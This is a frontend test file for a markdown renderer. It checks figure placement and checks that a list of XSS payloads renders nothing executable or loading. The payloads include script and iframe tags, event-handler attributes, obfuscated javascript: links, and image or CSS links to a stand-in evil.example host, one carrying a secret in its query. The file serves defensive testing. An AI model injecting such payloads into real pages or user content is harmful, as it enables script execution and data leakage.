// @vitest-environment happy-dom
import { cleanup, render as renderBare, screen } from "@testing-library/react";
import i18n from "i18next";
import { initReactI18next } from "react-i18next";
import { afterEach, beforeAll, describe, expect, it, vi } from "vitest";

import { TooltipProvider } from "@/components/ui/Tooltip";
import type { MarkedFigure } from "@/features/artifacts/FigureMark";
import { answer } from "@/i18n/en/answer";
import { common } from "@/i18n/en/common";

import { MarkdownBlocks } from "./MarkdownBlocks";

// What is proved here is where a mark stands; what it shows is tested with the results.
vi.mock("@/features/artifacts/FigureMark", () => ({
  FigureMark: ({ marked, children }: { marked: MarkedFigure; children: React.ReactNode }) => (
    <button type="button" data-verified={marked.isVerified}>
      {children}
    </button>
  ),
}));

beforeAll(async () => {
  await i18n
    .use(initReactI18next)
    .init({ resources: { en: { answer, common } }, lng: "en", defaultNS: "common" });
});
afterEach(cleanup);

const render = (shown: React.ReactElement) => renderBare(shown, { wrapper: TooltipProvider });

/** The figures of a text, each marked by «», with their places in code points. */
function withFigures(marked: string): { text: string; figures: MarkedFigure[] } {
  const figures: MarkedFigure[] = [];
  let text = "";
  for (const piece of marked.split(/(«[^»]*»)/u)) {
    const figure = /^«(.*)»$/u.exec(piece)?.[1];
    const start = Array.from(text).length;
    text += figure ?? piece;
    if (figure === undefined) continue;
    const end = start + Array.from(figure).length;
    const place = { text: figure, value: figure, start, end, kind: "plain", reason: "no_match" };
    figures.push({ isVerified: false, figure: place });
  }
  return { text, figures };
}

describe("figures", () => {
  it.each([
    ["in plain text", "Sales were «1,234.5» in May."],
    ["after emoji and Chinese", "😀👩‍👩‍👧 销售额为 «12.5» 万元，去年 «11» 万元。"],
    ["the second of two that look alike", "5 of «5»"],
    ["in emphasis", "A **total of «42»** and *«7»*"],
    ["in a table", "| a | b |\n| --- | ---: |\n| x | «10» |\n| y | «20» |"],
    ["in lists and later blocks", "First.\n\n- «1»\n- x «2»\n\n> «3»\n\n# «4»"],
    ["after escapes and entities", "1\\* &amp; &lt;b&gt; «99» \\_ «100»"],
    ["beside an address", "mail a@example.com, got «3» of «4», see https://example.com/5 and «6»"],
  ])("are marked %s", (_, marked) => {
    const { text, figures } = withFigures(marked);
    const { container } = render(<MarkdownBlocks text={text} figures={figures} />);
    const shown = screen.getAllByRole("button").map((button) => button.textContent);
    expect(shown).toEqual(figures.map(({ figure }) => figure.text));
    const bare = render(<MarkdownBlocks text={text} />).container;
    expect(container.textContent).toBe(bare.textContent);
  });

  it("stand at the right one of equal texts", () => {
    const { text, figures } = withFigures("7, 7, «7», 7");
    render(<MarkdownBlocks text={text} figures={figures} />);
    expect(screen.getByRole("button").previousSibling?.textContent).toBe("7, 7, ");
  });

  it("are never marked in code", () => {
    const { text, figures } = withFigures("`«1»`\n\n```sql\nLIMIT «2»\n```\n\n«3»");
    render(<MarkdownBlocks text={text} figures={figures} />);
    const marks = screen.getAllByRole("button").filter((each) => "verified" in each.dataset);
    expect(marks.map((button) => button.textContent)).toEqual(["3"]);
  });

  it("that do not fit the text are left out", () => {
    const { text, figures } = withFigures("only «1» here");
    render(<MarkdownBlocks text={`moved ${text}`} figures={figures} />);
    expect(screen.queryByRole("button")).toBeNull();
  });
});

const HOSTILE = [
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<script>alert(1)</script>",
  "<iframe src=javascript:alert(1)></iframe>",
  "[x](javascript:alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x](&#106;avascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "![x](data:text/html,<script>alert(1)</script>)",
  "![x](https://evil.example/?q=secret)",
  "![x][r]\n\n[r]: https://evil.example/p.png",
  "[![x](https://evil.example/p.png)](https://evil.example/)",
  "<java\tscript:alert(1)>",
  "<javascript:alert(1)>",
  "java\tscript:alert(1)",
  "| a |\n| --- |\n| <img src=x onerror=alert(1)> |",
  "<a href='javascript:alert(1)' onclick=alert(1)>x</a>",
  "<style>@import 'https://evil.example/x.css'</style>",
  "[x](//evil.example)",
  "[x](vbscript:alert(1))",
  "[^1]\n\n[^1]: <b onmouseover=alert(1)>note</b>",
  "```html\n<script>alert(1)</script>\n```",
  "```constructor\nx\n```",
  "```mermaid\nclick A javascript:alert(1)\n```",
  "$$\\href{javascript:alert(1)}{x}$$",
];

describe("hostile text", () => {
  it.each(HOSTILE)("%j makes nothing that acts or loads", (text) => {
    const { container } = render(<MarkdownBlocks text={text} />);
    expect(container.querySelector("script,iframe,img,style,object,embed,form,link")).toBeNull();
    for (const element of container.querySelectorAll("*")) {
      if (element.closest("button")) continue; // ours
      const names = element.getAttributeNames();
      expect(names.filter((name) => name.startsWith("on") || name === "src")).toEqual([]);
      const address = element.getAttribute("href");
      if (address !== null) expect(address).toMatch(/^https:\/\/evil\.example\//);
    }
  });

  it("shows a picture as its text and no way to it", () => {
    const { container } = render(
      <MarkdownBlocks text="![a **chart**](https://evil.example/p.png)" />,
    );
    expect(container.textContent).toContain("Picture not shown: a chart");
    expect(container.querySelector("a")).toBeNull();
  });

  it("shows where a link leads, and tells the other page nothing", () => {
    render(<MarkdownBlocks text="[our bank](https://evil.example/login)" />);
    const link = screen.getByRole("link");
    expect(link.textContent).toContain("(evil.example)");
    expect(link.getAttribute("rel")).toBe("noopener noreferrer");
    expect(link.getAttribute("target")).toBe("_blank");
  });

  it("shows raw HTML as text", () => {
    const { container } = render(<MarkdownBlocks text="a <b>c</b> d" />);
    expect(container.textContent).toBe("a <b>c</b> d");
  });
});
